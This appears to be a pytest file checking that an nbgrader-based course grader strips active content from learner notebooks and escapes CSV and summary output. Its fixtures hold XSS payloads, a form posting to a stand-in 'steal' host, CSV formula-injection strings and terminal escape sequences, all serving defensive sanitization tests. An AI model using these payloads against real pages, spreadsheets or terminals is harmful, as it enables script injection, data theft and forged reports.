"""Outputs safe to open: every byte a learner supplied that reaches what an instructor opens is harmless.

A hostile notebook made here (scripts, event handlers, JavaScript and widget outputs, javascript: links,
remote images and stylesheets, an SVG with a script, a meta refresh, a form, an iframe, output metadata that
the HTML templates trust) is scored by ``grader.scoring.score`` in a scratch course of its own (nbgrader, no
kernel): the feedback page it leaves, and the graded notebook rendered as nbgrader's formgrader renders it
(its own exporter and template), keep nothing active and fetch nothing. The reports (``grader.reports.write``,
from hand-made records) keep formulas out of every CSV cell and control characters out of summary.txt and the
table. No grading run: a few seconds.
"""

from __future__ import annotations

import base64
import csv
import doctest
import os
import re
import unicodedata
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

import course
from grader import escape, feedback, reports, scoring
from grader.records import CheckResult, Record

pytestmark = [
    pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning"),  # nbgrader in-process
    pytest.mark.filterwarnings("ignore:Your element with mimetype"),  # the raw hostile notebook rendered
]
PART = "hostile"
REMOTE = "remote.example"  # no URL of this host may survive anywhere
PNG = base64.b64encode(  # a 1×1 PNG
    bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d4944415478da63f8cfc0f01f0005000201a1d4b5b60000000049454e44ae426082"
    )
).decode()
HOSTILE_HTML = (
    "<b>bold</b> <a href='https://pytorch.org/docs'>docs</a>"
    "<script>alert('SCRIPT')</script><img src=x onerror=alert('ONERROR')>"
    f"<style>@import url(http://{REMOTE}/a.css); body {{ background: url(http://{REMOTE}/bg.png) }}</style>"
    f"<div style='color: green; background-image: url(http://{REMOTE}/t.png)'>green</div>"
    f"<meta http-equiv='refresh' content='0;url=http://{REMOTE}/'>"
    f"<form action='http://{REMOTE}/steal'><input name=secret value=x><button>Send</button></form>"
    f"<iframe src='http://{REMOTE}/frame'></iframe><object data='http://{REMOTE}/o'></object>"
    f"<embed src='http://{REMOTE}/e'><link rel=stylesheet href='http://{REMOTE}/l.css'>"
    f"<base href='http://{REMOTE}/'><img srcset='http://{REMOTE}/s.png 1x'>"
    "<a href='java&#x09;script:alert(`ENTITY`)'>tab</a>"
    "<a href='data:text/html,<script>alert(1)</script>'>d</a>"
    "<svg><script>alert('INLINE SVG')</script><a xlink:href='javascript:alert(2)'>s</a></svg>"
    f"<p style=\"color: '&#39;; background-image: url(http://{REMOTE}/q.png); x: &#39;'\">quoted</p>"
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('MXSS')>"
)
SVG = "<svg xmlns='http://www.w3.org/2000/svg' width='8' height='8'><script>alert('SVG')</script></svg>"
MARKDOWN = (
    "## Notes\n\n[click](javascript:alert('LINK')) ![tracker](http://remote.example/track.png) "
    '<img src="x" onerror="alert(\'MD\')"> <a href="#top" onclick="alert(\'CLICK\')">top</a> '
    "and a [good link](https://pytorch.org) with **bold**.\n\n```python\nx = 1\n\ny = 2\n```\n"
)


def _nbgrader(**meta) -> dict:
    return {"nbgrader": {"schema_version": 3, **meta}}


def _source() -> nbformat.NotebookNode:
    nb = new_notebook(
        cells=[
            new_markdown_cell(
                "# A part\n\nRead the [glossary](../../GLOSSARY.md#tensor); math: $y = \\sigma(x)$.",
                metadata=_nbgrader(grade=False, grade_id="intro", locked=True, solution=False),
            ),
            new_code_cell(
                "x = None  # YOUR CODE HERE",
                metadata=_nbgrader(grade=False, grade_id="answer", locked=False, solution=True),
            ),
            new_code_cell(
                "check.x()",
                metadata=_nbgrader(grade=True, grade_id="test_x", locked=True, points=1, solution=False),
            ),
            new_code_cell(
                "check.y()",
                metadata=_nbgrader(grade=True, grade_id="test_y", locked=True, points=1, solution=False),
            ),
        ]
    )
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return nb


def _verdicts() -> dict[str, list]:
    return {
        "test_x": [new_output("stream", name="stdout", text="✓ test_x: the answer is right\n")],
        "test_y": [
            new_output(
                "error",
                ename="CheckFailed",
                evalue="expected a tensor of shape (1, 5), got (5,)",
                traceback=["CheckFailed: expected a tensor of shape (1, 5), got (5,)"],
            )
        ],
    }


def _hostile() -> nbformat.NotebookNode:
    """The source, answered, with hostile outputs, cells and metadata; the check cells carry the verdicts a
    worker writes (one passed, one failed)."""
    nb = _source()
    answer = nb.cells[1]
    answer.source = "x = 1"
    answer.execution_count = 1
    answer.outputs = [
        new_output("stream", name="stdout", text="plain <b>not markup</b> \x1b[31mred\x1b[0m\n"),
        new_output("display_data", data={"text/html": HOSTILE_HTML, "text/plain": "<HTML>"}),
        new_output(
            "display_data", data={"application/javascript": "alert('JAVASCRIPT')", "text/plain": "<JS>"}
        ),
        new_output("display_data", data={"application/vnd.jupyter.widget-view+json": {"model_id": "m1"}}),
        new_output("display_data", data={"image/svg+xml": SVG}),
        new_output("display_data", data={"text/markdown": "[md](javascript:alert('MDOUT'))"}),
        new_output(
            "display_data",
            data={"text/html": "<p>in a frame</p><script>alert('ISOLATED')</script>"},
            metadata={"text/html": {"isolated": True}},
        ),
        new_output(  # the templates write width unquoted and load an image from metadata's file name
            "display_data",
            data={"image/png": PNG, "text/plain": "<Figure>"},
            metadata={
                "image/png": {"width": "1 onerror=alert('WIDTH')"},
                "filenames": {"image/png": f"http://{REMOTE}/f.png"},
            },
        ),
        new_output("execute_result", data={"text/plain": "1"}, execution_count=1),
    ]
    nb.cells.insert(2, new_markdown_cell(MARKDOWN))
    nb.cells.insert(3, new_raw_cell("<script>alert('RAW')</script><b>raw bold</b>"))
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in _verdicts():
            cell.outputs = _verdicts()[grade_id]
    nb.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2, "version_minor": 0}
    }
    return nb


@pytest.fixture(scope="module")
def scored(tmp_path_factory) -> tuple[Path, scoring.Scored, nbformat.NotebookNode]:
    """A scratch course with the hostile part, its notebook scored as on a worker."""
    root = tmp_path_factory.mktemp("course")
    (root / "source" / PART).mkdir(parents=True)
    nbformat.write(_source(), root / "source" / PART / f"{PART}.ipynb")
    scoring.empty_gradebook(root / "gradebook.db")
    scoring.generate(root, [PART])
    hostile = _hostile()
    submitted = scoring.path(root, "submitted", "learner", PART)
    submitted.parent.mkdir(parents=True)
    nbformat.write(hostile, submitted)
    return root, scoring.score(root, PART, "learner"), hostile


class Markup(HTMLParser):
    """Every element of a page, its attributes, and the text inside its scripts and styles."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.inside: list[tuple[str, str]] = []  # (script or style, its text)
        self._open: str | None = None
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {k: v or "" for k, v in attrs}))
        self._open = tag if tag in ("script", "style") else None

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, {k: v or "" for k, v in attrs}))

    def handle_data(self, data):
        if self._open:
            self.inside.append((self._open, data))

    def handle_endtag(self, tag):
        self._open = None

    def tags(self, name: str) -> list[dict[str, str]]:
        return [attrs for tag, attrs in self.elements if tag == name]

    def handlers(self) -> list[tuple[str, str, str]]:
        return [(t, k, v) for t, attrs in self.elements for k, v in attrs.items() if k.startswith("on")]

    def urls(self) -> list[tuple[str, str, str]]:
        names = (
            "href",
            "src",
            "srcset",
            "action",
            "formaction",
            "data",
            "poster",
            "background",
            "xlink:href",
        )
        return [(t, k, v) for t, attrs in self.elements for k, v in attrs.items() if k in names]


def _plain(url: str) -> str:
    return re.sub(r"[\x00-\x20\x7f-\xa0]+", "", url).lower()


# The feedback page ----------------------------------------------------------------------------------------


def test_the_hostile_notebook_is_scored_as_its_verdicts_say(scored):
    _, result, _ = scored
    assert (result.score, result.max_score, result.error, result.feedback_error) == (1.0, 2.0, "", "")
    assert result.grades == {"test_x": 1.0, "test_y": 0.0}


def test_the_feedback_page_runs_nothing_and_fetches_nothing(scored):
    root, _, _ = scored
    page = scoring.path(root, "feedback", "learner", PART, ".html").read_text()
    markup = Markup(page)
    assert "alert(" not in page and REMOTE not in page
    for tag in (
        "script",
        "iframe",
        "frame",
        "object",
        "embed",
        "form",
        "input",
        "button",
        "link",
        "base",
        "svg",
    ):
        assert not markup.tags(tag), tag
    assert not markup.handlers()
    metas = markup.tags("meta")
    assert [m.get("http-equiv") for m in metas if m.get("http-equiv")] == ["Content-Security-Policy"]
    policy = next(m["content"] for m in metas if m.get("http-equiv"))
    assert policy.startswith("default-src 'none'; style-src 'unsafe-inline'; img-src data:")
    assert page.index("Content-Security-Policy") < page.index("<style"), "the policy comes first"
    for tag, name, url in markup.urls():
        plain = _plain(url)
        if tag == "a" and name == "href":
            assert plain.startswith(("http://", "https://", "mailto:", "#")), url
        else:
            assert (tag, name) == ("img", "src") and plain.startswith("data:image/"), (tag, name, url[:80])
    for tag, attrs in markup.elements:
        assert "url(" not in attrs.get("style", ""), (tag, attrs)
    for kind, text in markup.inside:
        assert kind == "style", kind
        assert "@import" not in text and not re.search(r"url\(\s*['\"]?(?!data:)", text), text[:200]


def test_the_feedback_page_keeps_the_verdicts_and_harmless_markup(scored):
    root, _, _ = scored
    page = scoring.path(root, "feedback", "learner", PART, ".html").read_text()
    markup = Markup(page)
    assert "<b>bold</b>" in page and "raw bold" in page and "<strong>bold</strong>" in page
    assert '<a href="https://pytorch.org/docs">docs</a>' in page and 'href="https://pytorch.org"' in page
    assert "✓ test_x: the answer is right" in page
    assert "CheckFailed: expected a tensor of shape (1, 5), got (5,)" in page
    assert 'href="#test_x"' in page and "Score: 1.0 / 2.0" in page  # nbgrader's table of contents
    images = [attrs["src"] for attrs in markup.tags("img")]
    assert f"data:image/png;base64,{PNG}" in images
    assert any(src.startswith("data:image/svg+xml;base64,") for src in images)  # the SVG, as an image
    assert "x = 1\n\ny = 2" in re.sub(r"<[^>]+>", "", page)  # a fenced code block keeps its lines
    assert "$y = \\sigma(x)$" in page  # no MathJax: math shows as its LaTeX source


# The graded notebook, as formgrader shows it ---------------------------------------------------------------


def _formgrader_render(nb: nbformat.NotebookNode) -> str:
    """The notebook as nbgrader's formgrader renders a submission (SubmissionHandler: the formgrade template,
    a plain HTMLExporter, no sanitizer)."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers
    from traitlets.config import Config

    config = Config()
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {
        "assignment_id": PART,
        "notebook_id": PART,
        "submission_id": "s1",
        "index": 0,
        "total": 1,
        "base_url": "/base",
        "student": "learner",
        "last_name": None,
        "first_name": None,
        "notebook_path": f"autograded/learner/{PART}/{PART}.ipynb",
    }
    return HTMLExporter(config=config).from_notebook_node(nb, resources=resources)[0]


def _scripts(markup: Markup) -> list[tuple[str, str]]:
    texts = iter(text for kind, text in markup.inside if kind == "script")
    return sorted(
        (attrs.get("src", ""), "" if attrs.get("src") else next(texts, "")) for attrs in markup.tags("script")
    )


def test_formgrader_shows_the_graded_notebook_with_nothing_active(scored):
    root, _, hostile = scored
    graded = nbformat.read(scoring.path(root, "autograded", "learner", PART), as_version=4)
    shown, bare = Markup(_formgrader_render(graded)), Markup(_formgrader_render(_source()))
    raw = _formgrader_render(hostile)
    assert "alert('ONERROR')" in raw and "<iframe" in raw and "javascript:" in raw, "the test lost its teeth"
    page = _formgrader_render(graded)
    assert "alert(" not in page and REMOTE not in page
    # the template's own scripts (formgrader's jQuery, Backbone, formgrade.js, two inline ones, MathJax) only
    assert _scripts(shown) == _scripts(bare) and len(_scripts(bare)) >= 10
    assert sorted(shown.handlers()) == sorted(bare.handlers())  # the template's onclick="toggle_name(…)"
    for tag in ("iframe", "frame", "object", "embed", "form", "base", "svg", "meta", "link"):
        assert len(shown.tags(tag)) == len(bare.tags(tag)), tag
    template = set(bare.urls())
    for tag, name, url in shown.urls():
        if (tag, name, url) in template:
            continue
        plain = _plain(url)
        assert not plain.startswith(("javascript:", "vbscript:", "data:text")), url
        if tag == "a" and name == "href":  # links: the web, mail, anchors, the course's relative ones
            assert (
                plain.startswith(("http://", "https://", "mailto:", "#")) or ":" not in plain.split("/")[0]
            ), url
        else:  # nothing the page fetches but inline images
            assert (tag, name) == ("img", "src") and plain.startswith("data:image/"), (tag, name, url[:80])
    assert "<b>bold</b>" in page and "✓ test_x: the answer is right" in page
    assert 'href="../../GLOSSARY.md#tensor"' in page  # the course's own cells are left as they were


def test_the_graded_notebook_keeps_verdicts_and_scores_and_nothing_active(scored):
    root, _, hostile = scored
    path = scoring.path(root, "autograded", "learner", PART)
    graded = nbformat.read(path, as_version=4)
    assert "widgets" not in graded.metadata
    kinds = {k for c in graded.cells for o in c.get("outputs", []) for k in o.get("data", {})}
    assert kinds <= {"text/plain", "text/html", "image/png"}, kinds
    checks = {
        c.metadata["nbgrader"]["grade_id"]: c
        for c in graded.cells
        if c.metadata.get("nbgrader", {}).get("grade")
    }
    assert {g: c.outputs for g, c in checks.items()} == _verdicts()
    assert [c.metadata.nbgrader["points"] for c in checks.values()] == [1, 1]
    source = _source()
    assert graded.cells[0].source == source.cells[0].source  # harmless markdown stays markdown
    assert graded.cells[2].source.startswith('<div class="grader-sanitised">')
    assert '<span class="mi">1</span>&#10;&#10;<span class="n">y</span>' in graded.cells[2].source
    image = next(o for o in graded.cells[1].outputs if "image/png" in o.get("data", {}))
    assert image.metadata == {}  # no unquoted width, no file name to load it from
    assert not feedback.safe_notebook(graded), "sanitizing is not idempotent"
    assert os.stat(path).st_mode & 0o222 == 0, "nbgrader's read-only mode is kept"
    assert len(graded.cells) == len(hostile.cells)


def test_the_course_notebooks_are_left_as_they_are():
    for part in course.PARTS:
        nb = nbformat.read(part.solution, as_version=4)
        assert not feedback.safe_notebook(nb), part.name


def test_the_sanitizers_doctests():
    for module in (feedback, escape):
        assert doctest.testmod(module).failed == 0, module.__name__


# The reports ------------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example","click")', "+1", "-2", "@SUM(A1:A9)", "\tTab", "\rCR"]
CONTROLS = [
    "esc \x1b]0;pwned\x07 \x1b[2J",
    "line\nGraded 0 learner(s)",
    "bidi \u202eevil\u202c",
    os.fsdecode(b"caf\xe9"),
]
FORGED_MESSAGE = "boom \x1b[31m\x07\r\nGraded 0 learner(s)"


def _check(passed: bool, message: str = "", misconception: dict | None = None) -> CheckResult:
    return CheckResult(1.0 if passed else 0.0, 1.0, passed, True, message, misconception or {})


@pytest.fixture(scope="module")
def written(tmp_path_factory) -> tuple[Path, str, dict[str, str]]:
    out = tmp_path_factory.mktemp("out")
    names = [*FORMULAS, *CONTROLS, "Points Possible", "Zoë Ångström"]
    ids = {name: f"learner-{k}" for k, name in enumerate(names)}
    part = course.PART_NAMES[0]
    current = {}
    weird = {
        "id": "w",
        "name": "misconception \x1b[1mbold\x1b[0m\nGraded 0 learner(s)",
        "where": "Part 1\x07",
    }
    for k, (name, sid) in enumerate(ids.items()):
        if k % 3 == 0:
            record = Record(name, sid, part, "d", "invalid", reason=f"=1+1 {name}")
            record.checks = {"test_a": _check(False, "not run: invalid")}
        else:
            record = Record(name, sid, part, "d", "graded", reason=name if k % 3 == 1 else "", score=1.0)
            record.checks = {"test_a": _check(k % 2 == 0, FORGED_MESSAGE + name, weird)}
            record.protections = {"sandbox": f"on {name}"}
        current[record.key] = record
    points = {p: ({"test_a": 1.0} if p == part else {}) for p in course.PART_NAMES}
    unrecognised = {CONTROLS[0]: [f"evil\x1b[2J{name}.ipynb" for name in CONTROLS]}
    notes = [f"  {CONTROLS[1]}: a note", "Layout\x1b]0;x\x07"]
    shown = reports.write(
        out, ids, current, unrecognised, points, len(current), CONTROLS, per_check=True, notes=notes
    )
    return out, shown, ids


def _cells(path: Path) -> list[list[str]]:
    with open(path, newline="") as f:
        return list(csv.reader(f))


def test_no_csv_cell_is_a_formula_and_numbers_stay_numbers(written):
    out, _, ids = written
    files = [out / "grades.csv", out / "lms" / "canvas.csv", out / "lms" / "moodle.csv"]
    for path in files:
        rows = _cells(path)
        assert all(len(row) == len(rows[0]) for row in rows), path
        for cell in (c for row in rows for c in row):
            assert not cell.startswith(escape.FORMULA_STARTS), (path, cell)
            assert not any(unicodedata.category(ch) in ("Cc", "Cf", "Cs") for ch in cell), (path, cell)
    grades = _cells(out / "grades.csv")
    assert grades[0] == [
        "learner",
        "student_id",
        "part",
        "score",
        "max_score",
        "status",
        "reason",
        "hints_used",
    ]
    for row in grades[1:]:
        float(row[3]), float(row[4]), int(row[7])  # numbers, not text
    learners = {row[0] for row in grades[1:]}
    assert learners == {escape.csv_cell(name) for name in ids}
    assert (
        '\'=HYPERLINK("http://evil.example","click")' in learners
        and "'+1" in learners
        and "\\tTab" in learners  # escaped: no longer a tab
    )
    assert {row[6] for row in grades[1:] if row[5] == "invalid"} == {
        escape.csv_cell(f"=1+1 {n}") for i, n in enumerate(ids) if i % 3 == 0
    }
    canvas = _cells(out / "lms" / "canvas.csv")
    assert [row[0] for row in canvas].count("Points Possible") == 1 and canvas[1][0] == "Points Possible"
    assert canvas[1][5:] == ["1"] and _cells(out / "lms" / "canvas_checks.csv")[1][5:] == ["1"]  # numbers
    learner = next(row for row in canvas if row[3] == "Points Possible")
    assert learner[0] == "'Points Possible"  # a learner of that name is not taken for Canvas's row
    moodle = _cells(out / "lms" / "moodle.csv")
    assert moodle[0][0] == "username" and len(moodle) == 1  # no folder name here is a Moodle username


def test_the_lms_files_follow_each_importers_rules_with_and_without_a_roster(tmp_path):
    """Canvas: its student columns and one Points Possible row; Moodle: an identifier that is a username;
    no empty cell (it would clear a grade in the LMS): a learner with a part not graded yet is left out and
    named; per-check columns in files of their own (they would count twice beside the parts); a roster's
    login and name used in both files."""
    part = course.PART_NAMES[0]
    names = {"alice": "alice-1", "Zoë Ångström": "zoe-2", "bob": "bob-3"}
    current = {}
    for name, sid in names.items():
        status = "error" if name == "bob" else "graded"  # the grader's failure: graded again next run
        record = Record(name, sid, part, "d", status, score=1.0)
        record.checks = {"test_a": _check(True)}
        current[record.key] = record
    points = {p: ({"test_a": 1.0} if p == part else {}) for p in course.PART_NAMES}
    for roster in (
        None,
        {
            "alice": {"login": "a.smith", "name": "Alice Smith"},
            "Zoë Ångström": {"login": "zangstrom", "name": "Zoë Ångström"},
        },
    ):
        out = tmp_path / ("roster" if roster else "plain")
        out.mkdir()
        summary = reports.write(out, names, current, {}, points, 0, [], per_check=True, roster=roster)
        canvas, moodle = _cells(out / "lms" / "canvas.csv"), _cells(out / "lms" / "moodle.csv")
        assert canvas[0][:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
        assert canvas[0][5:] == ["Part 1: Tensors"] and canvas[1] == ["Points Possible", "", "", "", "", "1"]
        assert not any(cell == "" for row in canvas[2:] for cell in row[5:]) and "bob" not in str(canvas)
        assert "left out of both until every part of theirs is graded" in summary and "bob" in summary
        for row in moodle[1:]:
            assert reports.MOODLE_USERNAME.fullmatch(row[0]) and all(row[1:])
        checks = _cells(out / "lms" / "canvas_checks.csv")
        assert (
            checks[0][5:] == ["Part 1: test_a"]
            and _cells(out / "lms" / "moodle_checks.csv")[0][1:] == checks[0][5:]
        )
        if roster:
            assert [row[3] for row in canvas[2:]] == ["zangstrom", "a.smith"]  # in the folders' order
            assert [row[0] for row in canvas[2:]] == ["Zoë Ångström", "Alice Smith"]
            assert [row[0] for row in moodle[1:]] == ["zangstrom", "a.smith"]
        else:
            assert [row[3] for row in canvas[2:]] == ["Zoë Ångström", "alice"]
            assert [row[0] for row in moodle[1:]] == ["alice"]  # "Zoë Ångström" would stop Moodle's import
            assert "not a Moodle username" in summary and "Zoë Ångström" in summary


def test_the_summary_and_the_table_hold_no_control_character_and_no_forged_line(written):
    out, shown, ids = written
    text = (out / "summary.txt").read_text(encoding="utf-8")  # a lone surrogate could not have been written
    for where in (text, shown):
        hidden = {
            ch
            for ch in where
            if ch != "\n" and unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp", "Cs", "Co")
        }
        assert not hidden, hidden
        lines = where.splitlines()
        assert lines[0].startswith(f"Graded {len(ids)} learner(s)")
        assert not [line for line in lines if line.startswith("Graded 0")], "a forged line"
    assert "caf\\xe9" in text and "esc \\x1b]0;pwned\\x07" in text and "\\u202eevil" in text
    assert "boom \\x1b[31m\\x07" in text  # the failure message the learner's code raised, quoted escaped
    assert "misconception \\x1b[1mbold" in text and "Part 1\\x07" in text
    assert "evil\\x1b[2J" in text and "Layout\\x1b]0;x\\x07" in text and "sandbox: on line\\nGraded 0" in text
    table = shown.split("\n\n")[-1].splitlines()
    assert table[0].startswith("learner") and len(table) == len(ids) + 1
    assert any(row.startswith("line\\nGraded 0 learner(s)") for row in table)
